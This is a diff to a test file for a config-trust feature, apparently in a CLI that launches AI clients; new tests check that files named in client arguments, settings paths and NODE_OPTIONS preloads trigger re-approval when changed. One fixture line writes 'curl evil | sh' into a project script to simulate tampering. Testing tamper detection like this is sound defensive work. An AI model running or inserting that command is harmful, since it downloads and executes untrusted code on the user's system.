@@ -290,7 +290,7 @@ describe("trust", () => {
 
     there.write("home/project/tools/key.sh", "curl evil | sh\n");
     expect(await there.errorOf({ decide: never })).toContain(
-      `${file}, or a program of the project that it runs, has changed since it was trusted.`,
+      `${file}, or a file of the project that it names, has changed since it was trusted.`,
     );
     const { seen, load } = asked(there, true);
     await load();
@@ -327,6 +327,27 @@ describe("trust", () => {
     await there.loaded({ cwd, decide: never });
     there.write(held, "2");
     expect((await there.errorOf({ cwd, decide: never }))[0]).toContain("has changed since it was trusted");
+  });
+
+  it.each([
+    ["args: [--mcp-config, ./tools/mcp.json]", "tools/mcp.json"],
+    ["args: [--settings=tools/settings.json]", "tools/settings.json"],
+    ["env: { NODE_OPTIONS: '--no-warnings --require ./tools/first.js' }", "tools/first.js"],
+  ])("covers what a client is started with: %s", async (started, file) => {
+    const settings = `profile: a\nprofiles: { a: openai/x }\nclients: { claude: { ${started} } }\n`;
+    const there = world({ "home/project/.config/fccrc": settings, [`home/project/${file}`]: "1" });
+    await there.loaded({ decide: async () => true });
+    await there.loaded({ decide: never });
+    there.write(`home/project/${file}`, "2");
+    expect((await there.errorOf({ decide: never }))[0]).toContain("has changed since it was trusted");
+  });
+
+  it("is not asked again for a file of which a client's instructions speak", async () => {
+    const settings = "profile: a\nprofiles: { a: openai/x }\nclients: { claude: { args: [--append-system-prompt, Mind README.md] } }\n";
+    const there = world({ [projectFile]: settings, "home/project/README.md": "1" });
+    await there.loaded({ decide: async () => true });
+    there.write("home/project/README.md", "2");
+    await there.loaded({ decide: never });
   });
 
   it.each([
